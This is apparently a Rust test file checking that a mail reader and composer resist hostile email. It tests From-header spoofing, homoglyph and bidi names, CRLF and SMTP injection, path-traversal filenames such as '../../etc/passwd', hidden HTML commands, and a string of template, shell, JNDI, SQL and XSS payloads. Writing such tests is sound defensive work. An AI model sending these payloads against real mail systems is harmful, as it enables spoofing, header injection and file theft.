//! The attack mails of FAULTS section 3 that concern reading, as tables: what is asserted is the outcome, not that nothing crashed
//! alone. Mails that are made to be expensive are in `bombs.rs` and `cost.rs`.

use maildesk::mail::{
    Address, Class, ReadPolicy, Reading, attachment,
    compose::{Outgoing, OutgoingFile, compose},
    read,
};

use crate::policy;

fn reading(raw: &str) -> Reading {
    let reading = read(raw.as_bytes(), &policy());
    assert!(!reading.warnings.iter().any(|w| w.starts_with("reader crashed")), "{raw:?}");
    reading
}

fn warns(reading: &Reading, words: &str) -> bool {
    reading.warnings.iter().any(|w| w.contains(words))
}

#[test]
fn only_a_plain_from_can_be_an_agents() {
    let plain = reading("From: \"Berg, Anna\" <Anna@Desk.Example>\n\nx");
    assert_eq!(plain.trace.strict_from.as_deref(), Some("anna@desk.example"));
    for from in [
        "From: anna@desk.example\nFrom: evil@bad.example",
        "From: evil@bad.example\nFrom: anna@desk.example",
        "From: anna@desk.example, evil@bad.example",
        "From: evil@bad.example, anna@desk.example",
        "From: agents: anna@desk.example;",
        "From: anna@desk.example:;",
        "From: anna@desk.example\0",
        "From: anna@desk.example\0@bad.example",
        "From: <@bad.example:anna@desk.example>",
        "From: anna(x)@desk.example",
        "From: anna@desk.example (evil@bad.example)",
        "From: (anna@desk.example) evil@bad.example <anna@desk.example>",
        "From: =?utf-8?Q?anna=40desk.example?=",
        "From: =?utf-8?B?YW5uYUBkZXNrLmV4YW1wbGU=?= <anna@desk.example> (",
        "From: <=?utf-8?Q?anna?=@desk.example>",
        "From : anna@desk.example",
        "From\t: anna@desk.example",
        "From: \"anna\"@desk.example",
        "From: anna@desk.example <evil@bad.example> <anna@desk.example>",
        "From: anna@desk.example\n\tevil@bad.example",
        "From: anna@[192.0.2.1]",
        "From: ann\u{e4}@desk.example",
        "From: anna@desk.exаmple",
        "From: anna@desk..example",
        "From: anna@desk.example>",
        "From:",
        "From: anna",
        "Sender: anna@desk.example",
        "X-From: anna@desk.example",
        "\u{feff}From: anna@desk.example",
        "\nFrom: anna@desk.example",
        "no field\nFrom: anna@desk.example",
        " From: anna@desk.example",
    ] {
        let strict = reading(&format!("{from}\nSubject: close\n\n#close")).trace.strict_from;
        assert!(strict.as_deref() != Some("anna@desk.example"), "{from:?} gives {strict:?}");
    }
}

#[test]
fn results_of_other_servers_keep_their_place() {
    for above in 0..=20 {
        let mut mail = "Authentication-Results: mx.desk.example; dmarc=fail\n".to_owned();
        mail.push_str(&"Received: from a by b\n".repeat(above));
        mail.push_str("Authentication-Results: mx.desk.example; dmarc=pass\nFrom: anna@desk.example\n\nx");
        let results = reading(&mail).trace.authentication_results;
        let places: Vec<usize> = results.iter().map(|r| r.received_above).collect();
        assert_eq!(places, [0, above]);
    }
}

/// Controls, characters of no width, and ones that turn the text.
const HIDDEN: &[&str] = &[
    "\0",
    "\r",
    "\u{1b}[31m",
    "\u{7f}",
    "\u{85}",
    "\u{200b}",
    "\u{202e}",
    "\u{2066}",
    "\u{feff}",
    "\u{2028}",
];

fn is_clean(text: &str) -> bool {
    !text.contains(|c: char| {
        c.is_control()
            || matches!(c, '\u{200b}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
    })
}

#[test]
fn names_subjects_ids_and_file_names_are_clean() {
    for hidden in HIDDEN {
        for word in
            [hidden.to_string(), format!("=?utf-8?B?{}?=", data_encoding::BASE64.encode(hidden.as_bytes()))]
        {
            let percent: String = hidden.bytes().map(|b| format!("%{b:02X}")).collect();
            let r = reading(&format!(
                "From: \"An{word}na\" <anna@acme.example>\nTo: Be{word}n <ben@desk.example>\nSubject: a {word} b\nMessage-ID: <a{hidden}b@acme.example>\n\
                 References: <c{hidden}d@acme.example>\nContent-Type: application/octet-stream; name*=utf-8''a{percent}b.exe\n\nx"
            ));
            let name = |a: &Address| a.name.clone().unwrap_or_default();
            let mut shown = vec![
                r.subject.clone().unwrap(),
                r.base_subject.clone(),
                name(r.from.as_ref().unwrap()),
                name(&r.to[0]),
            ];
            shown.extend(r.message_id.clone());
            shown.extend(r.references.clone());
            shown.extend(r.attachments.iter().map(|a| a.name.clone()));
            assert!(shown.len() > 6, "{hidden:?}: {shown:?}");
            for text in shown {
                assert!(is_clean(&text), "{hidden:?} as {word:?} in {text:?}");
            }
            let is_blank = hidden.starts_with(char::is_control);
            assert!(is_blank || warns(&r, "unsafe name"), "{hidden:?}: {:?}", r.warnings);
        }
    }
}

#[test]
fn what_was_read_injects_no_header_and_no_second_mail() {
    for line in [
        "\r\nBcc: victim@bad.example",
        "\nBcc: victim@bad.example",
        "\rBcc: victim@bad.example",
        "\r\n.\r\nMAIL FROM:<x>",
    ] {
        let word = format!("=?utf-8?B?{}?=", data_encoding::BASE64.encode(line.as_bytes()));
        let r = reading(&format!(
            "From: \"a{word}\" <a@b.example>\nSubject: s{word}\nMessage-ID: <m{word}@b.example>\n\nfirst{line}\n.\r\nlast\n.\rx\r.\ry"
        ));
        let answer = Outgoing {
            from: Address { name: None, address: "support@desk.example".into() },
            to: vec![r.from.clone().unwrap()],
            subject: format!("Re: {}", r.subject.clone().unwrap()),
            message_id: "out@desk.example".into(),
            in_reply_to: r.message_id.clone(),
            text: r.text.clone(),
            ..Outgoing::default()
        };
        let file = OutgoingFile { name: line.into(), content_type: line.into(), bytes: line.as_bytes() };
        let raw = String::from_utf8(compose(&answer, &[file])).unwrap();
        let bare = raw.replace("\r\n", "");
        assert!(!bare.contains(['\r', '\n', '\0']), "bare line ends: {raw:?}");
        assert!(!raw.contains("\r\n.\r\n"), "the mail would end early: {raw:?}");
        let (header, _) = raw.split_once("\r\n\r\n").unwrap();
        assert!(!header.lines().any(|l| l.to_lowercase().starts_with("bcc")), "{header}");
        assert_eq!(read(raw.as_bytes(), &ReadPolicy::default()).to.len(), 1);
    }
}

#[test]
fn names_of_files_are_safe_and_said_to_be_odd() {
    for (name, safe) in [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\drivers\\etc\\hosts", "hosts"),
        ("/etc/shadow", "shadow"),
        ("C:\\autoexec.bat", "autoexec.bat"),
        ("nul", "_nul"),
        ("COM1.log", "_COM1.log"),
        ("lpt9.tar.gz", "_lpt9.tar.gz"),
        ("invoice\u{202e}fdp.exe", "invoicefdp.exe"),
        ("in\u{200b}voice.pdf", "invoice.pdf"),
        ("a\u{2028}b.pdf", "ab.pdf"),
        ("іnvoice.pdf", "іnvoice.pdf"),
        ("pаssword.txt", "pаssword.txt"),
    ] {
        let percent: String = name.bytes().map(|b| format!("%{b:02X}")).collect();
        let r = reading(&format!(
            "From: a@b.example\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''{percent}\n\nx"
        ));
        assert_eq!(r.attachments[0].name, safe, "{name:?}");
        assert!(warns(&r, "attachment 1"), "{name:?}: {:?}", r.warnings);
    }
}

#[test]
fn senders_that_show_themselves_as_others_are_said_to_be_odd() {
    for (from, words) in [
        ("\"support@desk.example\" <evil@bad.example>", "another address"),
        ("=?utf-8?Q?Support_=3Csupport=40desk.example=3E?= <evil@bad.example>", "another address"),
        ("=?utf-8?B?0JBkbWlu?= <evil@bad.example>", "look alike"),
        ("Anna <anna@dеsk.example>", "look alike"),
        ("=?utf-8?B?4oCubmltZGE=?= <evil@bad.example>", "turn the text"),
    ] {
        let r = reading(&format!("From: {from}\nSubject: x\n\nx"));
        assert!(warns(&r, words), "{from}: {:?}", r.warnings);
    }
    for from in [
        "Anna Berg <anna@acme.example>",
        "Анна Берг <anna@acme.example>",
        "张伟 Wei <wei@acme.example>",
        "\"anna@acme.example\" <Anna@acme.example>",
    ] {
        assert_eq!(reading(&format!("From: {from}\n\nx")).warnings, Vec::<String>::new(), "{from}");
    }
}

#[test]
fn hidden_text_holds_no_command_and_nothing_is_fetched() {
    for hidden in [
        "<div style=\"display:none\">#close</div>",
        "<div style=\"DISPLAY : None !important\">#close</div>",
        "<span hidden>#close</span>",
        "<span style=\"font-size:0\">#close</span>",
        "<span style='visibility:hidden'>#close</span>",
        "<span style=\"color:#fff\">#close</span>",
        "<span style=\"color:#fff;background:#fff\">#close</span>",
        "<span style=\"background-color: White; color: rgb(255, 255, 255)\">#close</span>",
        "<span style=\"color:#f1f1f1;background:#f1f1f1\">#close</span>",
        "<span style=\"opacity:0\">#close</span>",
        "<!-- #close -->",
        "<style>#close</style>",
        "<script>#close</script>",
        "<title>#close</title>",
        "<img src=https://track.example/p.gif alt=\"\">",
    ] {
        let r = reading(&format!("From: anna@desk.example\nContent-Type: text/html\n\n{hidden}<p>hello</p>"));
        assert!(!r.command_text.unwrap_or_default().contains("#close"), "{hidden}");
        assert!(r.text.contains("hello"), "{hidden}");
        assert!(r.cloud_files.is_empty(), "{hidden}: {:?}", r.cloud_files);
    }
    let beside = "From: anna@desk.example\nContent-Type: multipart/alternative; boundary=m\n\n--m\n\nhello\n--m\nContent-Type: text/html\n\n<p>#close</p>\n--m--\n";
    assert_eq!(reading(beside).command_text.as_deref().map(str::trim), Some("hello"));
}

#[test]
fn code_in_a_mail_is_text() {
    let code = "{{ config }} {% include '/etc/passwd' %} $(reboot) `id` ${jndi:ldap://x.example} %s%n '; DROP TABLE ticket; -- <script>alert(1)</script>";
    let r = reading(&format!("From: a@b.example\nSubject: {code}\n\n{code}"));
    assert_eq!((r.subject.as_deref(), r.reply.trim()), (Some(code), code));
}

#[test]
fn archives_are_stored_and_never_opened() {
    // 10 MB of zeros as DEFLATE would be 10 kB; what counts is that size and hash are those of the bytes in the mail.
    let zip = [b"PK\x03\x04\x14\0\0\0\x08\0".as_slice(), &[0; 10_000]].concat();
    let raw = format!(
        "From: a@b.example\nContent-Type: application/zip; name=a.zip\nContent-Transfer-Encoding: base64\n\n{}",
        data_encoding::BASE64_MIME.encode(&zip)
    );
    let r = reading(&raw);
    assert_eq!((r.attachments[0].size, attachment(raw.as_bytes(), 0).unwrap()), (zip.len() as u64, zip));
    // Base64 in base64: one layer is undone.
    let twice = data_encoding::BASE64.encode(data_encoding::BASE64.encode(&[b'A'; 3_000]).as_bytes());
    let raw = format!(
        "From: a@b.example\nContent-Type: image/png; name=a.png\nContent-Transfer-Encoding: base64\n\n{twice}"
    );
    assert_eq!(reading(&raw).attachments[0].size, 4_000);
}

#[test]
fn no_u0000_anywhere() {
    let pieces = [
        "From: A\0 <a\0@b.example>\n",
        "To: \0\n",
        "Subject: a\0b =?utf-8?Q?=00?=\n",
        "Message-ID: <a\0b@c>\n",
        "In-Reply-To: \0\n",
        "Reply-To: \0 <\0@x.example>\n",
        "Content-Type: multipart/mixed; boundary=\"m\"\n\n--m\n\nte\0xt\n\nOn Mon, 2 Mar 2026, A\0 <a@b.example> wrote:\n> qu\0oted\n-- \nsign\0ature\n",
        "--m\nContent-Type: text/\0plain; name=\"a\0b\"\nContent-Disposition: attachment\n\n\0\n",
        "--m\nContent-Type: text/html\n\n<p>a\0b&#0;&#x0;<a href=\"https://x.example/\0\">l</a>\n",
        "--m\nContent-Type: message/rfc822\n\nFrom: \0\nSubject: in\0ner\n\n\0\n--m--\n",
    ];
    let json = serde_json::to_string(&reading(&pieces.concat())).unwrap();
    assert!(!json.contains("\\u0000"), "{json}");
}

#[test]
fn long_ids_and_wild_dates_are_no_ids_and_no_dates() {
    let r = reading(&format!(
        "From: a@b.example\nMessage-ID: <{}@x>\nReferences: <{}@x> <ok@x>\n\nx",
        "i".repeat(10_000),
        "j".repeat(10_000)
    ));
    assert_eq!((r.message_id, r.references), (None, vec!["ok@x".to_owned()]));
    for date in [
        "Fri, 31 Feb 2026 10:00:00 +0000",
        "Mon, 2 Mar 99999 10:00:00 +0000",
        "Mon, 2 Mar -1 10:00:00 +0000",
        "25:61:61",
        "\0",
        "Mon, 2 Mar 2026 10:00:00 +999999999999",
        "9999999999999999999",
    ] {
        let r = reading(&format!("From: a@b.example\nDate: {date}\n\nx"));
        // Nothing that a store or a calendar could not hold.
        let sound = |d: jiff::Timestamp| (-62_135_596_800..=253_402_300_799).contains(&d.as_second());
        assert!(r.date.is_none_or(sound), "{date:?} gives {:?}", r.date);
        assert_eq!(r.class, Class::Human);
    }
}
